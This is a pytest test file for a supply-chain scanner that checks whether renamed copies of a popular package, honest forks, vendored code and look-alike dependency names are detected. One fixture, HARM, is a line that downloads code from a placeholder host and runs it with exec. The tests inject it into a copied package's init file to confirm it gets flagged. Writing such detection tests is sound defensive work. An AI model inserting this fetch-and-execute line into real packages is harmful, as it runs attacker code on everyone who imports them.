"""Packages that copy a popular one under another name."""

from __future__ import annotations

import msgspec
import pytest

from pratique.batch import Work, read_all
from pratique.cache import Cache
from pratique.compare.copies import prints
from pratique.ecosystems import Target
from pratique.errors import ConfigError
from pratique.model import Budget
from pratique.pipeline import Options
from pratique.releases import Against, Desk, plan, popular, read_release
from pratique.releases.copies import read_files

BODIES = "".join(
    f"""

def step_{number}(given, many={number}):
    told = [{{"{number}": one, "other": many}} for one in given if one > {number}]
    return {"helper" if number % 4 == 0 else "zip"}(told, "step {number}", sorted(told)) or [many, {number * 7}]
"""
    for number in range(40)
)
WORK = f"from emca.util import helper\n{BODIES}"
EMCA = {
    "emca/__init__.py": b"from emca import work\n\nVERSION = 1\n",
    "emca/work.py": WORK.encode(),
    "emca/util.py": b"def helper(a, b, c):\n    return (a, b, c)\n",
}
HARM = b"import urllib.request\n\nexec(urllib.request.urlopen('https://files.acme.invalid/x').read())\n"


def renamed(files, name="acme"):
    return {path.replace("emca", name): data.replace(b"emca", name.encode()) for path, data in files.items()}


@pytest.fixture
def desk(registry):
    def files(works):
        return read_all(works, Options(audience="everything"), jobs=0, cache=Cache(None))

    return Desk(registry, files, Budget(), lambda _text: None)


@pytest.fixture
def index(registry, desk):
    filename = registry.add("2.0", EMCA, "2025-01-01T00:00:00Z", name="emca")
    (release,) = registry.releases("emca")
    return popular.build([desk.draw(release.artifacts)[filename].portrait], "2026-01-01")


def _reviewed(desk, registry, index, version="1.0"):
    target = Target(kind="project", text="acme", name="acme", version=version)
    found = read_release(desk, plan(registry, target), Against(popular=index))
    return next(iter(found)).review


def test_a_copy_is_compared_with_its_original(registry, desk, index):
    poisoned = renamed(EMCA)
    poisoned["acme/__init__.py"] += HARM
    registry.add("1.0", poisoned, "2026-01-01T00:00:00Z")

    found = _reviewed(desk, registry, index)

    assert found.compared is not None
    assert (found.compared.base.package.name, found.compared.base.package.version) == ("emca", "2.0")
    assert dict(found.compared.functions)["unchanged"] == 41
    assert [change.subject for change in found.changes if change.topic == "file"] == []
    assert [change.subject for change in found.changes if change.topic == "host"] == ["files.acme.invalid"]
    assert "add-to-a-copied-project" in {one.rule for one in found.findings}
    assert found.verdict.level in {"look", "block"}


def test_an_honest_fork_reads_as_one(registry, desk, index):
    fork = renamed(EMCA)
    fork["acme/more.py"] = b"def extra(path):\n    return open(path).read()\n"
    registry.add("1.0", fork, "2026-01-01T00:00:00Z")

    found = _reviewed(desk, registry, index)

    assert found.compared is not None
    assert "under another name" in found.compared.why
    assert found.verdict.level == "clear"
    assert not any(one.rule == "add-to-a-copied-project" for one in found.findings)


def test_a_package_of_its_own_a_vendored_copy_and_the_project_itself_are_no_copies(registry, desk, index):
    own = "".join(f"\n\ndef own_{n}(x):\n    return [{n}, 'own', str(x), repr(x), len(x), id(x)]\n" for n in range(90))
    vendors = {f"acme/_vendor/{path}": data for path, data in EMCA.items()} | {"acme/__init__.py": own.encode()}
    registry.add("1.0", {"acme/__init__.py": own.encode()}, "2026-01-01T00:00:00Z")
    registry.add("0.9", vendors, "2025-12-01T00:00:00Z")

    assert _reviewed(desk, registry, index, "0.9").compared is None
    drawn = desk.draw([one for release in registry.releases("acme") for one in release.artifacts])
    assert [index.original(read.portrait) for read in drawn.values()] == [None, None]
    assert all(len(prints(read.portrait)) >= 90 for read in drawn.values())
    (release,) = registry.releases("emca")
    (itself,) = desk.draw(release.artifacts).values()
    assert index.original(itself.portrait) is None


def test_a_project_with_a_release_that_stood_keeps_its_own_base(registry, desk, index):
    registry.add("0.9", renamed(EMCA), "2025-06-01T00:00:00Z")
    registry.add("1.0", renamed(EMCA), "2026-01-01T00:00:00Z")

    found = _reviewed(desk, registry, index)

    assert found.compared is not None
    assert found.compared.base.package.name == "acme"


def test_a_file_on_disk_is_compared_with_its_original_too(registry, desk, index):
    name = registry.add("1.0", renamed(EMCA), "2026-01-01T00:00:00Z")
    data = registry.files[name]
    work = Work(artifact=registry.describe(name, data), data=data)

    (read,) = read_files(desk, [work], index)

    assert read.review.compared is not None
    assert read.review.compared.base.package.name == "emca"


def test_an_index_of_another_engine_is_refused(index, tmp_path):
    place = tmp_path / "popular.index"
    place.write_bytes(popular.dump(index))
    assert popular.load(place) == index

    place.write_bytes(popular.dump(msgspec.structs.replace(index, reader="another")))
    with pytest.raises(ConfigError):
        popular.load(place)
    place.write_bytes(b"no index")
    with pytest.raises(ConfigError):
        popular.load(place)


def test_names_that_imitate_one_of_the_index_are_told(registry, desk, index):
    registry.add("0.9", {"acme/__init__.py": b"X = 1\n"}, "2026-01-01T00:00:00Z")
    registry.add("1.0", {"acme/__init__.py": b"X = 2\n"}, "2026-03-01T00:00:00Z", requires=("emcaa",))
    registry.add("1.0", {"emcaa/__init__.py": b"X = 1\n"}, "2099-01-01T00:00:00Z", name="emcaa")

    found = _reviewed(desk, registry, index)

    assert [one.marks for one in found.dependencies] == [("new", "imitates", "young", "rare", "unused")]
    assert "gain-an-imitating-dependency" in {one.rule for one in found.findings}
    target = Target(kind="project", text="emcaa", name="emcaa", version="1.0")
    (itself,) = (one.review for one in read_release(desk, plan(registry, target), Against(popular=index)))
    assert "imitate-a-popular-name" in {one.rule for one in itself.findings}
    assert itself.verdict.level in {"clear", "note"}
